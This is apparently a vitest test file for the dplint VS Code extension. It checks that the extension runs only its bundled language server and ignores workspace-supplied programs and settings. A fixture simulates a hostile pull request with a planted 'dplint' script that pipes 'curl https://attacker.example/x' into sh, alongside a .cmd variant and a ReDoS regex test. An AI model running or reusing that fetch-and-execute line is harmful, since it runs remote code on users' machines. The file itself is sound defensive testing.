import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import Module, { createRequire, isBuiltin } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join, normalize, sep } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { afterEach, describe, expect, test } from 'vitest';
import { repo } from '../helpers/repo.js';
import { brief, Client } from './client.js';

/**
 * The VS Code extension (editors/vscode): its manifest, the server it chooses (never a program the
 * workspace brings: docs/security.md, "The editor runs nothing the workspace brings"), and the
 * packaged .vsix's own server answering a real LSP client.
 */
const EXTENSION = join(import.meta.dirname, '..', '..', 'editors', 'vscode');
const manifest = JSON.parse(readFileSync(join(EXTENSION, 'package.json'), 'utf8'));
const require = createRequire(import.meta.url);
const BUNDLED_SERVER = join(EXTENSION, 'server.js');
const STDIO = 0; // vscode-languageclient's TransportKind.stdio

describe('the manifest', () => {
  test('declares limited support in untrusted workspaces, with dplint.path restricted', () => {
    expect(manifest.capabilities.untrustedWorkspaces).toEqual({
      supported: 'limited',
      description: 'In a workspace you have not trusted, only the dplint language server that comes with the extension runs; `dplint.path` is not used.',
      restrictedConfigurations: ['dplint.path'],
    });
    expect(manifest.capabilities.virtualWorkspaces.supported).toBe(false);
  });

  test('dplint.path is machine-scoped (a workspace settings.json cannot set it); enable, debounceMs and trace.server are the other settings', () => {
    const properties = manifest.contributes.configuration.properties;
    expect(Object.keys(properties)).toEqual(['dplint.enable', 'dplint.path', 'dplint.debounceMs', 'dplint.trace.server']);
    expect(properties['dplint.path'].scope).toBe('machine');
    expect(properties['dplint.enable']).toMatchObject({ type: 'boolean', default: true });
    expect(properties['dplint.trace.server']).toMatchObject({ enum: ['off', 'messages', 'verbose'], default: 'off' });
  });

  test('names the bundle as its entry; activates on YAML, JSON and dplint configs; depends on nothing at run time (the bundles hold it all)', () => {
    expect(manifest.main).toBe('./dist/extension.js');
    for (const file of ['extension.js', 'server.js', 'server-choice.js', 'scripts/build.js']) expect(spawnSync(process.execPath, ['--check', join(EXTENSION, file)]).status).toBe(0);
    // YAML and JSON activate the extension (a few lines that look for a modeline); the server starts only where one or a config is.
    expect(manifest.activationEvents).toEqual(['onLanguage:yaml', 'onLanguage:json', 'workspaceContains:**/dplint.config.{yaml,yml}', 'workspaceContains:**/.dplint.{yaml,yml}']);
    // The language client is bundled into dist/extension.js, and the root's server with its scslre into dist/server.js (scripts/build.js).
    expect(manifest.dependencies).toBeUndefined();
    expect(manifest.devDependencies).toEqual({ '@vscode/vsce': '^3.2.1', 'vscode-languageclient': '^9.0.1' });
    expect(manifest.engines.vscode).toBe('^1.82.0');
    expect(existsSync(join(EXTENSION, 'package-lock.json'))).toBe(true);
  });

  test('the root package builds the server, then the .vsix with vsce from the extension folder, apart from the root install', () => {
    const root = JSON.parse(readFileSync(join(import.meta.dirname, '..', '..', 'package.json'), 'utf8'));
    expect(root.scripts['package:vscode']).toBe('npm run build:cli && npm --prefix editors/vscode ci --no-audit --no-fund && npm --prefix editors/vscode run package');
    expect(Object.keys({ ...root.dependencies, ...root.devDependencies })).not.toContain('@vscode/vsce');
    expect(manifest.scripts).toEqual({ 'vscode:prepublish': 'node scripts/build.js', package: 'vsce package --no-dependencies --skip-license --out dplint.vsix' });
    // The root's repository (docs/editors.md, "Schemas at a URL"), in the extension's folder.
    expect(manifest.repository).toEqual({ type: 'git', url: 'https://github.com/dplint/dplint.git', directory: 'editors/vscode' });
  });
});

interface Started {
  serverOptions: { run: { command: string; args: string[]; transport: number; options: Record<string, unknown> } };
}
interface Workspace {
  trusted: boolean;
  files?: Record<string, string>;
  path?: { globalValue?: string; workspaceValue?: string; workspaceFolderValue?: string };
  enable?: boolean;
  documents?: Array<{ languageId: string; text: string }>;
}

/**
 * Activates editors/vscode/extension.js in a fake VS Code (the `vscode` module and the language
 * client stand-ins below) over a real folder, and returns the language clients it created. The fake
 * answers `get('path')` as VS Code does for a setting of no scope: the workspace's value over the
 * user's.
 */
async function activate(workspace: Workspace, entry = join(EXTENSION, 'extension.js')): Promise<{ started: Started[]; ids: string[]; requests: string[]; folder: string; output: string[]; searches: () => number; openDocument(document: { languageId: string; text: string }): Promise<void> }> {
  const folder = repo(workspace.files ?? {});
  const started: Started[] = [];
  const ids: string[] = [];
  /** Every module the extension requires (but Node's own), in order. */
  const requests: string[] = [];
  const output: string[] = [];
  let searches = 0;
  const listeners: Record<string, Array<(value?: unknown) => unknown>> = {};
  const on = (name: string) => (listener: (value?: unknown) => unknown) => {
    (listeners[name] ??= []).push(listener);
    return { dispose() {} };
  };
  const setting = workspace.path ?? {};
  const vscode = {
    workspace: {
      isTrusted: workspace.trusted,
      workspaceFolders: [{ uri: { fsPath: folder }, name: 'repo', index: 0 }],
      textDocuments: (workspace.documents ?? []).map((d) => ({ ...d, getText: () => d.text })),
      getConfiguration: () => ({
        get: (key: string) => (key === 'path' ? (setting.workspaceFolderValue ?? setting.workspaceValue ?? setting.globalValue ?? '') : key === 'enable' ? (workspace.enable ?? true) : key === 'debounceMs' ? 200 : undefined),
        inspect: (key: string) => (key === 'path' ? { key: 'dplint.path', defaultValue: '', ...setting } : undefined),
      }),
      findFiles: async () => (searches++, ['dplint.config.yaml', 'dplint.config.yml', '.dplint.yaml', '.dplint.yml'].filter((name) => existsSync(join(folder, name))).map((name) => ({ fsPath: join(folder, name) }))),
      createFileSystemWatcher: () => ({ onDidCreate: on('create'), onDidChange: on('change'), onDidDelete: on('delete'), dispose() {} }),
      onDidOpenTextDocument: on('open'),
      onDidGrantWorkspaceTrust: on('trust'),
      onDidChangeWorkspaceFolders: on('folders'),
      onDidChangeConfiguration: on('configuration'),
    },
    window: { createOutputChannel: () => ({ appendLine: (line: string) => output.push(line), append() {}, dispose() {} }) },
    commands: { registerCommand: () => ({ dispose() {} }) },
  };
  class LanguageClient {
    constructor(id: string, _name: string, serverOptions: Started['serverOptions']) {
      ids.push(id);
      started.push({ serverOptions });
    }
    start() {
      return Promise.resolve();
    }
    stop() {
      return Promise.resolve();
    }
    dispose() {}
  }
  const client = { LanguageClient, TransportKind: { stdio: STDIO, ipc: 1, pipe: 2, socket: 3 } };
  const loader = Module as unknown as { _load(request: string, parent: unknown, isMain: boolean): unknown };
  const load = loader._load;
  loader._load = function (request, parent, isMain) {
    if (request !== entry && !isBuiltin(request)) requests.push(request);
    if (request === 'vscode') return vscode;
    if (request === 'vscode-languageclient/node') return client;
    return load.call(this, request, parent, isMain);
  };
  restore.push(() => (loader._load = load));
  delete require.cache[entry];
  const extension = require(entry) as { activate(context: { subscriptions: unknown[] }): Promise<void> };
  await extension.activate({ subscriptions: [] });
  return {
    started,
    ids,
    requests,
    folder,
    output,
    searches: () => searches,
    async openDocument(document) {
      vscode.workspace.textDocuments.push({ ...document, getText: () => document.text });
      await Promise.all((listeners.open ?? []).map((listener) => listener(document)));
    },
  };
}
const restore: Array<() => void> = [];
afterEach(() => {
  for (const undo of restore.splice(0)) undo();
});

const CONFIG = ['files:', '  - match: ["clusters/*.yaml"]', '    operation: edit-cluster', ''].join('\n');
/** What a pull request can commit: a config, its own `dplint` program (`git add -f`), a settings.json naming another. */
const HOSTILE = {
  'dplint.config.yaml': CONFIG,
  'node_modules/.bin/dplint': '#!/bin/sh\ncurl https://attacker.example/x | sh\n',
  'node_modules/.bin/dplint.cmd': '@curl https://attacker.example/x\n',
  '.vscode/settings.json': '{ "dplint.path": "./tools/dplint" }\n',
};

describe('the server the extension starts', () => {
  const bundled = (env = process.env) => ({ command: process.execPath, args: [BUNDLED_SERVER], transport: STDIO, options: { env: { ...env, ELECTRON_RUN_AS_NODE: '1' } } });

  test('an untrusted workspace with its own node_modules/.bin/dplint gets the bundled server, started by Node with no shell (on Windows too)', async () => {
    const platform = Object.getOwnPropertyDescriptor(process, 'platform')!;
    Object.defineProperty(process, 'platform', { value: 'win32' });
    restore.push(() => Object.defineProperty(process, 'platform', platform));
    const { started } = await activate({ trusted: false, files: HOSTILE });
    expect(started.map((s) => s.serverOptions.run)).toEqual([bundled()]);
    expect(started[0].serverOptions.run.options).not.toHaveProperty('shell');
  });

  test('a trusted workspace with its own node_modules/.bin/dplint still gets the bundled server: the workspace install is never picked up', async () => {
    const { started } = await activate({ trusted: true, files: HOSTILE });
    expect(started.map((s) => s.serverOptions.run)).toEqual([bundled()]);
  });

  test('dplint.path from a workspace or folder settings.json is ignored, trusted or not', async () => {
    for (const trusted of [false, true]) {
      const workspace = await activate({ trusted, files: HOSTILE, path: { workspaceValue: '/tmp/x/evil.js', workspaceFolderValue: '/tmp/x/evil.js' } });
      expect(workspace.started.map((s) => s.serverOptions.run)).toEqual([bundled()]);
    }
  });

  test("the user's own dplint.path runs in a trusted workspace only, as Node with the file and `lsp`; untrusted, the bundled server and one line saying why", async () => {
    const file = join(tmpdir(), 'elsewhere', 'node_modules', 'dplint', 'dist', 'dplint.cjs');
    const trusted = await activate({ trusted: true, files: { 'dplint.config.yaml': CONFIG }, path: { globalValue: file } });
    expect(trusted.started.map((s) => s.serverOptions.run)).toEqual([{ command: process.execPath, args: [file, 'lsp'], transport: STDIO, options: { env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' } } }]);
    const untrusted = await activate({ trusted: false, files: { 'dplint.config.yaml': CONFIG }, path: { globalValue: file } });
    expect(untrusted.started.map((s) => s.serverOptions.run)).toEqual([bundled()]);
    expect(untrusted.output[0]).toBe(`dplint: this workspace is not trusted, so the dplint server that comes with the extension runs, not dplint.path (${file}).`);
  });

  test('a dplint.path that is no JavaScript file (a Windows .cmd shim) or not absolute is refused for the bundled server', async () => {
    const { chooseServer } = require(join(EXTENSION, 'server-choice.js'));
    const env = { PATH: '/bin' };
    expect(chooseServer({ trusted: true, pathSetting: { globalValue: '/home/me/project/node_modules/.bin/dplint.cmd' }, nodePath: '/node', env })).toEqual({
      source: 'bundled',
      executable: { command: '/node', args: [BUNDLED_SERVER], options: { env: { PATH: '/bin', ELECTRON_RUN_AS_NODE: '1' } } },
      warning: "dplint: dplint.path must name dplint's JavaScript file (dist/dplint.cjs), which is started with Node, not dplint.cmd. The server that comes with the extension runs.",
    });
    expect(chooseServer({ trusted: true, pathSetting: { globalValue: 'node_modules/.bin/dplint' }, nodePath: '/node', env }).warning).toBe(
      'dplint: dplint.path must be the absolute path of a dplint JavaScript file (its dist/dplint.cjs); got node_modules/.bin/dplint. The server that comes with the extension runs.',
    );
  });

  test('no server where there is no dplint config and no modeline; one once a file with a modeline opens; none when dplint.enable is false', async () => {
    const plain = await activate({ trusted: true, files: { 'docker-compose.yaml': 'services: {}\n' }, documents: [{ languageId: 'yaml', text: 'services: {}\n' }] });
    expect(plain.started).toEqual([]);
    await plain.openDocument({ languageId: 'yaml', text: 'version: 2\n' });
    expect(plain.started).toEqual([]);
    // Opening files does not search the workspace for a config again.
    expect(plain.searches()).toBe(1);
    await plain.openDocument({ languageId: 'yaml', text: '# dplint: operation=edit-cluster\nlabel: [etl]\n' });
    expect(plain.started.map((s) => s.serverOptions.run)).toEqual([bundled()]);
    const disabled = await activate({ trusted: true, enable: false, files: { 'dplint.config.yaml': CONFIG }, documents: [{ languageId: 'yaml', text: '# dplint: operation=edit-cluster\n' }] });
    expect(disabled.started).toEqual([]);
  });

  test('activated on a YAML file with no dplint config or modeline, it loads no language client; where dplint is wanted, the client is `dplint` (which reads dplint.trace.server)', async () => {
    const plain = await activate({ trusted: true, files: { 'docker-compose.yaml': 'services: {}\n' }, documents: [{ languageId: 'yaml', text: 'services: {}\n' }] });
    expect(plain.requests).toEqual(['vscode', './server-choice.js']);
    const wanted = await activate({ trusted: true, files: { 'dplint.config.yaml': CONFIG } });
    expect(wanted.requests).toEqual(['vscode', './server-choice.js', 'vscode-languageclient/node']);
    expect(wanted.ids).toEqual(['dplint']);
  });

  test('a modeline is `# dplint: operation=` or a $schema naming a dplint schema file, in the first lines', () => {
    const { hasModeline } = require(join(EXTENSION, 'server-choice.js'));
    expect(hasModeline('# dplint: operation=edit-cluster\nlabel: [etl]\n')).toBe(true);
    expect(hasModeline('# yaml-language-server: $schema=../node_modules/dplint/schemas/editor/edit-cluster.schema.json\n')).toBe(true);
    expect(hasModeline('# yaml-language-server: $schema=https://raw.githubusercontent.com/dplint/dplint/v0.1.0/schemas/editor/edit-cluster.schema.json\n')).toBe(true);
    expect(hasModeline('# yaml-language-server: $schema=https://json.schemastore.org/github-workflow.json\non: push\n')).toBe(false);
    expect(hasModeline('label: [etl]\n# dplint: operation\n')).toBe(false);
    expect(hasModeline(`${'a: 1\n'.repeat(50)}# dplint: operation=edit-cluster\n`)).toBe(false);
  });
});

/** The files of a zip archive (a .vsix), stored or deflated, written under `into`. */
function unzip(file: string, into: string): string[] {
  const zip = readFileSync(file);
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const names: string[] = [];
  let at = zip.readUInt32LE(end + 16);
  for (let i = zip.readUInt16LE(end + 10); i > 0; i--) {
    const method = zip.readUInt16LE(at + 10);
    const compressed = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(start, start + compressed);
    const target = normalize(join(into, name));
    if (!target.startsWith(into + sep)) throw new Error(`${name} is outside the archive`);
    if (name.endsWith('/')) continue;
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, method === 8 ? inflateRawSync(data) : data);
    names.push(name);
  }
  return names;
}

describe('the packaged .vsix', () => {
  test("starts its own server from its own files (no dplint in the workspace, nothing of this repository's node_modules) and answers a real LSP client", async () => {
    const vsce = join(EXTENSION, 'node_modules', '@vscode', 'vsce', 'vsce');
    expect(existsSync(vsce), 'the extension\'s own packages are not installed: npm test installs them first (scripts/test-prerequisites.mjs)').toBe(true);
    const out = mkdtempSync(join(tmpdir(), 'dplint-vsix-'));
    const packed = spawnSync(process.execPath, [vsce, ...manifest.scripts.package.replace('dplint.vsix', join(out, 'dplint.vsix')).split(' ').slice(1)], { cwd: EXTENSION, encoding: 'utf8' });
    expect(packed.status, packed.stderr).toBe(0);
    const files = unzip(join(out, 'dplint.vsix'), join(out, 'unpacked'));
    // The two bundles, the manifest, README and LICENSE (.vscodeignore), and vsce's own two files: no node_modules, no sources.
    expect(files.sort()).toEqual(['[Content_Types].xml', 'extension.vsixmanifest', 'extension/LICENSE.txt', 'extension/dist/THIRD-PARTY-NOTICES.txt', 'extension/dist/extension.js', 'extension/dist/server.js', 'extension/package.json', 'extension/readme.md']);
    // Each bundled package's licence travels with it: the client's, the server's, scslre's.
    const notices = readFileSync(join(out, 'unpacked', 'extension', 'dist', 'THIRD-PARTY-NOTICES.txt'), 'utf8');
    const listed = notices.split('\n').filter((line) => /^\S+@\d+\.\d+\.\d+ \(/.test(line)).map((line) => line.replace(/@\d+\.\d+\.\d+/, ''));
    expect(listed).toEqual(expect.arrayContaining(['vscode-languageclient (MIT)', 'vscode-languageserver (MIT)', 'scslre (MIT)', 'yaml (ISC)', 'ajv (MIT)']));
    const server = join(out, 'unpacked', 'extension', 'dist', 'server.js');

    // The packaged entry loads with VS Code's `vscode` module alone (the language client is inside it), and starts nothing where dplint is not wanted.
    const unpackedManifest = JSON.parse(readFileSync(join(out, 'unpacked', 'extension', 'package.json'), 'utf8'));
    const plain = await activate({ trusted: true, files: { 'docker-compose.yaml': 'services: {}\n' }, documents: [{ languageId: 'yaml', text: 'services: {}\n' }] }, join(out, 'unpacked', 'extension', unpackedManifest.main));
    expect(plain.requests).toEqual(['vscode']);
    expect(plain.started).toEqual([]);

    // A YAML-only repository: no config, no node_modules, a file naming its schema by URL (docs/editors.md).
    const modeline = '# yaml-language-server: $schema=https://raw.githubusercontent.com/dplint/dplint/v0.1.0/schemas/editor/edit-cluster.schema.json\nlabel: [etl]\nmin_nodes: 5\n';
    const yamlOnly = new Client(repo({ 'clusters/etl.yaml': modeline }), [server, '--stdio']);
    await yamlOnly.initialize();
    expect((await yamlOnly.open('clusters/etl.yaml', modeline)).map(brief)).toEqual([
      '3:1-3:10 2 schema/unknown-member unknown member "min_nodes" in the body: the spec does not list it; see `dplint schema` for the 15 members it takes',
    ]);
    expect(yamlOnly.stderr).toBe('');
    expect(await yamlOnly.shutdown()).toBe(0);

    // A workspace with a policy: the lint and the config's check of its pattern (scslre) come from the package.
    const policy = (pattern: string) => `${CONFIG}policies:\n  - id: etl-labels\n    message: every label is lower-case letters\n    operations: [edit-cluster]\n    schema:\n      properties:\n        label:\n          items: { pattern: "${pattern}" }\n`;
    const good = new Client(repo({ 'dplint.config.yaml': policy('^[a-z]+$'), 'clusters/etl.yaml': 'label: [ETL]\n' }), [server, '--stdio']);
    expect((await good.initialize()).serverInfo.name).toBe('dplint');
    expect((await good.open('clusters/etl.yaml', 'label: [ETL]\n')).map(brief)).toEqual(['1:9-1:12 1 policy/etl-labels every label is lower-case letters (label[0] must be text matching ^[a-z]+$; got "ETL")']);
    expect(await good.shutdown()).toBe(0);

    const bad = new Client(repo({ 'dplint.config.yaml': policy('^(a+)+$'), 'clusters/etl.yaml': 'label: [etl]\n' }), [server, '--stdio']);
    await bad.initialize();
    const onConfig = bad.nextDiagnostics('dplint.config.yaml');
    await bad.open('clusters/etl.yaml', 'label: [etl]\n');
    expect((await onConfig).map((d) => d.message)).toEqual([
      'policy "etl-labels": pattern "^(a+)+$" can backtrack super-linearly (exponentially) on a run of "a": a crafted value would stall the run; rewrite it so that no two parts can match the same characters',
    ]);
    expect(bad.stderr).toBe('');
    expect(await bad.shutdown()).toBe(0);
  });
});
